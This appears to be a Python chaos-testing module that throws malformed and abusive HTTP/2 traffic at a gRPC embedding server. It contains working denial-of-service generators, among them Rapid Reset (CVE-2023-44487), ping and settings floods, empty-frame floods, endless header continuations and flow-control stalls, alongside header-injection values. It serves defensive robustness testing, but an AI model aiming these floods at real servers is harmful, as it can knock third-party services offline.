"""Strangers at the port: who speaks broken HTTP/2, who asks for too much, who says nothing."""

from __future__ import annotations

import contextlib
import random
import socket
from collections.abc import Callable, Iterator

from semserve.v1.embedding_pb2 import EmbedRequest

from chaos.http2 import (
    END_HEADERS,
    END_STREAM,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    Kind,
    block,
    call,
    call_headers,
    connect,
    frame,
    number,
    opening,
    prefixed,
    setting,
)
from chaos.questions import EMBED

GOOD = EmbedRequest(texts=["a cat"]).SerializeToString()
TLS_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(197)
PIECES = 1 << 14

Attack = Callable[[int], Iterator[bytes]]
"""Yields what a stranger sends; its argument is how hard it tries."""


def attack(address: str, what: Attack, force: int) -> socket.socket | None:
    """Send all that the server takes; returns the open connection, or None where it was closed."""
    connection = connect(address)
    try:
        for piece in what(force):
            connection.sendall(piece)
    except OSError:  # the server has closed it, or takes no more
        connection.close()
        return None
    return connection


def crowd(address: str, size: int) -> contextlib.ExitStack:
    """Open so many connections and say nothing on any."""
    silent = contextlib.ExitStack()
    for _ in range(size):
        silent.enter_context(connect(address))
    return silent


def another_protocol(_force: int) -> Iterator[bytes]:
    """Speak HTTP/1.1."""
    yield b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"


def encryption(_force: int) -> Iterator[bytes]:
    """Speak TLS."""
    yield TLS_HELLO


def noise(force: int) -> Iterator[bytes]:
    """Send random bytes."""
    draw = random.Random(force)  # noqa: S311  (noise is no secret)
    for _ in range(force):
        yield draw.randbytes(1024)


def noise_after_the_opening(force: int) -> Iterator[bytes]:
    """Begin well and go on with random bytes."""
    yield opening()
    yield from noise(force)


def half_an_opening(_force: int) -> Iterator[bytes]:
    """Stop in the middle of the preface."""
    yield opening()[:10]


def no_settings(_force: int) -> Iterator[bytes]:
    """Call before the settings that must come first."""
    yield opening()[:24]
    yield call(1, EMBED, GOOD)


def a_frame_too_long(_force: int) -> Iterator[bytes]:
    """Claim sixteen megabytes, and send some."""
    yield opening() + b"\xff\xff\xff" + bytes((Kind.DATA, 0)) + number(1)
    yield bytes(PIECES)


def frames_out_of_place(force: int) -> Iterator[bytes]:
    """Send one frame that may not be sent there; which one depends on the force."""
    wrong = [
        frame(Kind.DATA, 0, b"x"),
        frame(Kind.DATA, 7, b"x"),
        frame(Kind.HEADERS, 0, call_headers(EMBED), flags=END_HEADERS),
        frame(Kind.HEADERS, 2, call_headers(EMBED), flags=END_HEADERS),
        frame(Kind.WINDOW_UPDATE, 0, number(0)),
        frame(Kind.WINDOW_UPDATE, 0, number(LARGEST_WINDOW)) * 2,
        frame(Kind.PUSH_PROMISE, 1, number(2)),
        frame(Kind.SETTINGS, 0, b"12345"),
        frame(Kind.SETTINGS, 1, setting(INITIAL_WINDOW_SIZE, 1)),
        frame(Kind.SETTINGS, 0, setting(INITIAL_WINDOW_SIZE, 2**32 - 1)),
        frame(Kind.PING, 0, b"1234567"),
        frame(Kind.RST_STREAM, 9, number(8)),
        frame(Kind.CONTINUATION, 1, b"", flags=END_HEADERS),
        frame(Kind.PRIORITY, 1, b"1"),
        frame(Kind.GOAWAY, 0, b"1"),
        frame(Kind.UNKNOWN, 3, b"x" * 100),
        frame(Kind.HEADERS, 1, b"\xff" * 100, flags=END_HEADERS),
        frame(Kind.HEADERS, 1, block((":method", "POST")) * 3, flags=END_HEADERS),
    ]
    yield opening() + wrong[force % len(wrong)] + call(11, EMBED, GOOD)


def odd_calls(_force: int) -> Iterator[bytes]:
    """Make calls whose headers or messages are wrong, each on a stream of its own."""
    yield opening()
    stream = 1
    for extra in (
        ("grpc-timeout", "99999999999H"),
        ("grpc-timeout", "-1S"),
        ("grpc-timeout", "now"),
        ("grpc-encoding", "nonsense"),
        ("content-type", "text/plain"),
        (":path", "/twice"),
        ("grpc-trace-bin", "%%%"),
        ("UPPER", "case"),
        ("a\nb", "c\nd"),
        ("user-agent", "x" * 8000),
    ):
        yield call(stream, EMBED, GOOD, extra)
        stream += 2
    for message in (prefixed(GOOD, compressed=1), prefixed(GOOD)[:-3], b"\0", b"", b"\7" * 50):
        yield frame(Kind.HEADERS, stream, call_headers(EMBED), flags=END_HEADERS)
        yield frame(Kind.DATA, stream, message, flags=END_STREAM)
        stream += 2
    for path in ("/", "", "no-slash", "/semserve.v1.EmbeddingService", "/" + "x" * 4000):
        yield call(stream, path, GOOD)
        stream += 2


def endless_headers(force: int) -> Iterator[bytes]:
    """Send headers that never end."""
    yield opening() + frame(Kind.HEADERS, 1, call_headers(EMBED))
    for number_ in range(force):
        yield frame(Kind.CONTINUATION, 1, block((f"x-{number_}", "y" * 8000)))


def rapid_reset(force: int) -> Iterator[bytes]:
    """Open calls and reset each at once (CVE-2023-44487)."""
    yield opening()
    for stream in range(1, 2 * force * 50, 2):
        yield call(stream, EMBED, GOOD) + frame(Kind.RST_STREAM, stream, number(8))


def pings(force: int) -> Iterator[bytes]:
    """Ask for very many pings' answers and read none (CVE-2019-9512)."""
    yield opening()
    for _ in range(force):
        yield frame(Kind.PING, 0, b"12345678") * 500


def settings_flood(force: int) -> Iterator[bytes]:
    """Ask for very many settings' acknowledgements and read none (CVE-2019-9515)."""
    yield opening()
    for _ in range(force):
        yield frame(Kind.SETTINGS, 0, setting(INITIAL_WINDOW_SIZE, 65_535)) * 500


def empty_frames(force: int) -> Iterator[bytes]:
    """Send very many frames of nothing (CVE-2019-9518)."""
    yield opening() + frame(Kind.HEADERS, 1, call_headers(EMBED), flags=END_HEADERS)
    for _ in range(force):
        yield frame(Kind.DATA, 1) * 500


def no_window(force: int) -> Iterator[bytes]:
    """Call very often and leave no room for any answer."""
    yield opening(setting(INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 2 * force, 2):
        yield call(stream, EMBED, GOOD)


def messages_that_do_not_come(force: int) -> Iterator[bytes]:
    """Announce messages of sixteen megabytes and send a byte of each."""
    yield opening()
    for stream in range(1, 2 * force, 2):
        yield frame(Kind.HEADERS, stream, call_headers(EMBED), flags=END_HEADERS)
        yield frame(Kind.DATA, stream, b"\0" + number(PIECES * 1024) + b"x")


ATTACKS: tuple[Attack, ...] = (
    another_protocol,
    encryption,
    noise,
    noise_after_the_opening,
    half_an_opening,
    no_settings,
    a_frame_too_long,
    frames_out_of_place,
    odd_calls,
    endless_headers,
    rapid_reset,
    pings,
    settings_flood,
    empty_frames,
    no_window,
    messages_that_do_not_come,
)
